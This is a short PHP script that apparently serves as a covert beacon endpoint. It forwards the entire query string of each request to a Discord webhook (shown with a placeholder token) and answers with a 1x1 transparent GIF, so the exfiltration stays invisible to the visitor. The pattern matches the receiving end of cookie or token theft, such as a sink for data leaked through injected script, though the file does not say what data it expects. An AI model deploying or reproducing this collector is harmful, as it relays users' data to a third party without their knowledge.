<?php
// beacon endpoint: the whole query string dumped into the chat message
$hook = 'https://discord.com/api/webhooks/000000/example-token';
$body = json_encode(['content' => print_r($_GET, true)]);
$ch = curl_init($hook);
curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
curl_setopt($ch, CURLOPT_HTTPHEADER, ['Content-Type: application/json']);
curl_exec($ch);
header('Content-Type: image/gif');
echo base64_decode('R0lGODlhAQABAAAAACw=');
